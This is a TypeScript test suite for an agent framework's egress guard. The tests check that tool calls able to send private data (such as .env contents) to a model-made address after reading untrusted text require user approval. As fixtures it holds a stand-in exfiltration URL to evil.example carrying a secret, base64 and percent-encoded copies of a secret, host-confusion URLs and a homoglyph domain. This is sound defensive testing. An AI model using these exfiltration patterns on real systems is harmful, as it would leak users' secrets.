/** Tests of calls that would send private data out at the request of untrusted text. */
import { Policy, RuleText } from "@bough/policy"
import { Session as Protocol } from "@bough/protocol"
import { Capability, type Channel, Grant, Tool, ToolContext } from "@bough/tool"
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Result from "effect/Result"
import * as Schema from "effect/Schema"
import type { Call, Provenance } from "../src/index.ts"
import { type Answer, requestFor, Done, done, fake, holding, prior, world } from "./Harness.ts"

const address = "https://given.example/"
const made = "https://evil.example/?d=s3cret"

const provenance: Provenance.Provenance = {
  isGivenAddress: (url) => url === address,
  isAgreedHost: (host) => host === "agreed.example:443",
  isGivenText: (text) => text === "the weather",
  sourcesOf: (label) => (label === "private" ? "read_file: Read 3 lines of .env" : "")
}

const both: ReadonlyArray<Protocol.Label> = ["private", "untrusted"]

const setUp = (options: {
  readonly answers?: ReadonlyArray<Answer>
  readonly policy?: Policy.Policy
  readonly labels?: ReadonlyArray<Protocol.Label>
  readonly raise?: boolean
  readonly secrets?: ReadonlyArray<string>
  readonly sourcesOf?: (label: Protocol.Label) => string
}) => {
  const log: Array<string> = []
  const tool = Tool.make("go", {
    version: 1,
    description: "Goes there",
    tier: "ReadOnly",
    replay: "Safe",
    capabilities: [Capability.NetworkRead],
    egress: { address: ({ url }) => url, texts: ({ note }) => [note] },
    parameters: Schema.Struct({ url: Schema.String, note: Schema.String }),
    output: Done,
    classify: ({ url }) =>
      Effect.sync(() => {
        log.push("looked up")
        return options.raise === true
          ? ({
              tier: "Elevated",
              reason: "it is near",
              grants: [Grant.Grant.cases.Host.make({ host: url, port: 1 })]
            } as const)
          : ({ tier: "ReadOnly" } as const)
      }),
    preview: ({ url }) =>
      Effect.sync(() => {
        log.push("previewed")
        return { render: `to ${url}`, preconditions: [] }
      }),
    execute: () =>
      Effect.sync(() => {
        log.push("gone")
        return done
      })
  })
  const { end, records } = world({
    tools: [tool],
    context: holding(Capability.NetworkRead),
    provenance: { ...provenance, ...(options.sourcesOf === undefined ? {} : { sourcesOf: options.sourcesOf }) },
    answers: options.answers ?? ["approve"],
    policy: options.policy ?? Policy.defaults,
    secrets: options.secrets ?? []
  })
  const go = (url: string, note = "", before: Call.Prior | null = null) =>
    end({ ...requestFor("go", { url, note }, before), labels: options.labels ?? both })
  return { go, log, records }
}

const everything = (["go", 'go url=https://evil.example/?d=s3cret note=""', "*"] as const).map((text) =>
  Result.getOrThrow(RuleText.parse(text))
)

describe("Taint", () => {
  it.effect("an unapproved host needs an approval, which names the labels of the session and the destination", () =>
    Effect.gen(function* () {
      const { go, log, records } = setUp({})
      const { outcome, receipt } = yield* go(made)
      assert.strictEqual(outcome._tag, "Succeeded")
      assert.strictEqual(
        records.requests[0].reason,
        "this address was made by the model after it read private data (read_file: Read 3 lines of .env) and untrusted text: " +
          `${made}; yes opens evil.example to this session and those below it`
      )
      assert.isFalse(records.requests[0].everyTime)
      assert.strictEqual(records.requests[0].call.newHost?.host, "evil.example:443")
      assert.strictEqual(receipt?.authority._tag, "User")
      assert.strictEqual(log.at(-1), "gone")
    })
  )

  it.effect("names a source of private data and of untrusted text once", () =>
    Effect.gen(function* () {
      const { go, records } = setUp({ sourcesOf: () => "run_command: $ cat notes · exit 0" })
      yield* go(made)
      const { reason } = records.requests[0]
      assert.include(reason, "after it read private data and untrusted text (run_command: $ cat notes · exit 0): ")
      const other = setUp({ sourcesOf: (label) => `a ${label} file` })
      yield* other.go(made)
      const read = "private data (a private file) and untrusted text (a untrusted file): "
      assert.include(other.records.requests[0].reason, read)
    })
  )

  it.effect("private data alone is enough, whatever the origin of the request; untrusted text alone is not", () =>
    Effect.gen(function* () {
      const count = (labels: ReadonlyArray<Protocol.Label>) =>
        Effect.gen(function* () {
          const { go, records } = setUp({ labels })
          yield* go(made)
          return records.requests.length
        })
      assert.deepStrictEqual([yield* count([]), yield* count(["untrusted"]), yield* count(["private"])], [0, 0, 1])
    })
  )

  it.effect(
    "an approved host needs no further approval for every address of it, and for no host below it or port beside it",
    () =>
      Effect.gen(function* () {
        const asks = (url: string) =>
          Effect.gen(function* () {
            const { go, records } = setUp({})
            yield* go(url)
            return records.requests.length
          })
        for (const url of [
          "https://agreed.example/?d=s3cret",
          "https://AGREED.example./x",
          "https://agreed.example:443/"
        ]) {
          assert.strictEqual(yield* asks(url), 0, url)
        }
        for (const url of [
          "https://s3cret.agreed.example/",
          "https://agreed.example:8443/",
          "http://agreed.example/",
          "https://agreed.example@evil.example/",
          "https://agreed.example.evil.example/"
        ]) {
          assert.strictEqual(yield* asks(url), 1, url)
        }
      })
  )

  it.effect("an address outside of the web is asked about each time, and approves nothing", () =>
    Effect.gen(function* () {
      const { go, records } = setUp({ labels: ["private"] })
      yield* go("nowhere s3cret")
      assert.deepStrictEqual(
        records.requests.map(({ call, everyTime }) => [everyTime, call.newHost]),
        [[true, null]]
      )
    })
  )

  it.effect("lookalike letters are shown encoded, in the reason and in the unchecked parts", () =>
    Effect.gen(function* () {
      const { go, records } = setUp({ labels: ["private"] })
      yield* go("http://\u0430\u0440\u0440\u04cf\u0435.com/login")
      const [{ preview, reason }] = records.requests
      for (const text of [reason, preview.render]) {
        assert.include(text, "http://xn--80ak6aa92e.com/login (in its own letters \u0430\u0440\u0440\u04cf\u0435.com)")
      }
      assert.include(reason, "yes opens xn--80ak6aa92e.com (in its own letters")
    })
  )

  it.effect("a rule that names the host decides, and then classify runs; another rule does not", () =>
    Effect.gen(function* () {
      const rules = (text: string) => ({ rules: [Result.getOrThrow(RuleText.parse(text))], approve: "ask" }) as const
      const free = setUp({ labels: ["private"], policy: rules("go host=evil.example") })
      assert.deepStrictEqual((yield* free.go(made)).receipt?.authority, { _tag: "Rule", rule: "go host=evil.example" })
      assert.deepStrictEqual([free.records.requests.length, free.log], [0, ["looked up", "gone"]])
      const other = setUp({ labels: ["private"], policy: rules("go host=other.example"), answers: [{ deny: null }] })
      yield* other.go(made)
      assert.deepStrictEqual([other.records.requests.length, other.log], [1, []])
    })
  )

  it.effect("a rule that names the host also allows text, whatever was read, and no secret in it", () =>
    Effect.gen(function* () {
      const policy = { rules: [Result.getOrThrow(RuleText.parse("go host=evil.example"))], approve: "ask" } as const
      const { go, log, records } = setUp({ policy, secrets: ["k3y-of-the-house"] })
      assert.strictEqual((yield* go(made, "what I have read")).outcome._tag, "Succeeded")
      for (const hidden of ["k3y-of-the-house", "azN5LW9mLXRoZS1ob3VzZQ==", "k3y%2Dof%2Dthe%2Dhouse"]) {
        const { outcome } = yield* go(made, `see ${hidden}`)
        assert.strictEqual(outcome._tag === "Rejected" || outcome._tag === "Failed", true, hidden)
      }
      assert.deepStrictEqual([records.requests.length, log], [0, ["looked up", "gone"]])
    })
  )

  it.effect("resolves no host that a rule denies or asks about", () =>
    Effect.gen(function* () {
      for (const effect of ["deny", "ask"]) {
        const rules = [Result.getOrThrow(RuleText.parse(`${effect} * host=evil.example`))]
        const { go, log } = setUp({ labels: [], policy: { rules, approve: "ask" }, answers: [{ deny: null }] })
        assert.strictEqual((yield* go(made)).outcome._tag, "Rejected")
        assert.deepStrictEqual(log, [], effect)
      }
    })
  )

  it.effect("resolves no name before an approval, since the owner of the name would see it", () =>
    Effect.gen(function* () {
      const { go, log, records } = setUp({ answers: [{ deny: "not there" }] })
      const { outcome } = yield* go(made)
      assert.deepStrictEqual(log, [])
      assert.include(records.requests[0].preview.render, made)
      const error = outcome._tag === "Rejected" ? outcome.error : null
      assert.strictEqual(error?._tag === "PermissionDenied" ? error.userMessage : null, "not there")
    })
  )

  it.effect("a fact that is found after the decision is asked about again, and granted only then", () =>
    Effect.gen(function* () {
      const { go, log, records } = setUp({ raise: true, answers: ["approve", { deny: null }] })
      assert.strictEqual((yield* go(made)).outcome._tag, "Rejected")
      assert.deepStrictEqual(
        records.requests.map(({ call, preview }) => [call.tier, preview.render.split("\n")[0], call.grants.length]),
        [
          ["ReadOnly", "go", 0],
          ["Elevated", `to ${made}`, 1]
        ]
      )
      assert.match(records.requests[1].reason, /^it is near; this address was made by the model/)
      assert.notInclude(log, "gone")
      assert.strictEqual((yield* setUp({ raise: true }).go(made)).outcome._tag, "Succeeded")
    })
  )

  it.effect("no rule without a host and no configuration replaces the user's decision", () =>
    Effect.gen(function* () {
      for (const approve of ["ask", "allow"] as const) {
        const { go, records } = setUp({ policy: { rules: everything, approve } })
        yield* go(made)
        assert.strictEqual(records.requests.length, 1)
      }
      const { go, log } = setUp({ policy: { rules: everything, approve: "deny" } })
      assert.strictEqual((yield* go(made)).outcome._tag, "Rejected")
      assert.deepStrictEqual(log, [])
    })
  )

  it.effect(
    "an address from the user is not asked about; the data sent along is, once for a new host, whatever was read",
    () =>
      Effect.gen(function* () {
        const free = setUp({})
        yield* free.go(address, "the weather")
        yield* free.go(address)
        assert.deepStrictEqual(free.records.requests, [])
        for (const setting of [{}, { labels: ["private"] }] as const) {
          const { go, records } = setUp(setting)
          yield* go(address, "s3cret")
          yield* go("https://agreed.example/", "s3cret")
          assert.deepStrictEqual(
            records.requests.map(({ call, everyTime }) => [call.newHost?.host, everyTime]),
            [["given.example:443", false]]
          )
          assert.include(records.requests[0].reason, "this request was made by the model after it read private data")
        }
      })
  )

  it.effect("a tool that sends and does not declare its data has all of its arguments asked about", () =>
    Effect.gen(function* () {
      const silent = Tool.make("silent", {
        version: 1,
        description: "Goes there",
        tier: "ReadOnly",
        replay: "Safe",
        capabilities: [Capability.NetworkRead],
        parameters: Schema.Struct({ url: Schema.String }),
        output: Done,
        execute: () => Effect.succeed(done)
      })
      const { end, records } = world({
        tools: [silent],
        context: holding(Capability.NetworkRead),
        provenance,
        answers: ["approve"]
      })
      yield* end({ ...requestFor("silent", { url: address }), labels: both })
      yield* end({ ...requestFor("silent", { url: address }), labels: ["private"] })
      yield* end({ ...requestFor("silent", { url: address }), labels: ["untrusted"] })
      assert.deepStrictEqual(
        records.requests.map(({ everyTime }) => everyTime),
        [true, true]
      )
    })
  )

  it.effect("a message to the session's own user sends no data out; one that others read does", () =>
    Effect.gen(function* () {
      const sendMessage = Tool.make("tell", {
        version: 1,
        description: "Tells people",
        tier: "System",
        replay: "Idempotent",
        capabilities: [Capability.Channel],
        parameters: Schema.Struct({ text: Schema.String }),
        output: Done,
        execute: () => Effect.succeed(done)
      })
      const asks = (ownerOnly: boolean) =>
        Effect.gen(function* () {
          const provided = {
            ...ToolContext.constant(fake<Channel.Channel["Service"]>({})),
            ...(ownerOnly ? ({ ownerOnly: true } as const) : {})
          }
          const context = ToolContext.provide(ToolContext.empty("Main"), Capability.Channel, provided)
          const { end, records } = world({ tools: [sendMessage], context, provenance, answers: ["approve"] })
          yield* end({ ...requestFor("tell", { text: "s3cret" }), labels: both })
          return records.requests.length
        })
      assert.deepStrictEqual([yield* asks(true), yield* asks(false)], [0, 1])
    })
  )

  it.effect("one owner-only capability does not exempt another that is not", () =>
    Effect.gen(function* () {
      const sendMessage = Tool.make("tell_and_send", {
        version: 1,
        description: "Tells people, and others",
        tier: "System",
        replay: "Idempotent",
        capabilities: [Capability.Channel, Capability.NetworkWrite],
        parameters: Schema.Struct({ text: Schema.String }),
        output: Done,
        execute: () => Effect.succeed(done)
      })
      const own = ToolContext.provide(holding(Capability.NetworkWrite), Capability.Channel, {
        ...ToolContext.constant(fake<Channel.Channel["Service"]>({})),
        ownerOnly: true
      })
      const { end, records } = world({ tools: [sendMessage], context: own, provenance, answers: ["approve"] })
      yield* end({ ...requestFor("tell_and_send", { text: "s3cret" }), labels: both })
      assert.match(records.requests[0]?.reason ?? "", /^this text was made by the model/)
    })
  )

  it.effect("results under a grant are private as well as untrusted", () =>
    Effect.gen(function* () {
      const near = setUp({ raise: true })
      yield* near.go(address)
      assert.deepStrictEqual(near.records.ended[0].labels, ["untrusted", "private"])
      const far = setUp({})
      yield* far.go(address)
      assert.deepStrictEqual(far.records.ended[0].labels, ["untrusted"])
    })
  )

  it.effect("an approved and started call is asked about again, and runs with its grant", () =>
    Effect.gen(function* () {
      const { go, log, records } = setUp({ raise: true, answers: ["approve"] })
      const user = { _tag: "User", approvalId: Protocol.ApprovalId.make("approval-0"), principal: "ana" } as const
      const { outcome } = yield* go(made, "", prior({ url: made, note: "" }, { authority: user }))
      assert.strictEqual(outcome._tag, "Succeeded")
      assert.lengthOf(records.requests, 1)
      assert.deepStrictEqual(
        [log, records.started[0].grants.length],
        [["looked up", "previewed", "looked up", "previewed", "gone"], 1]
      )
    })
  )
})
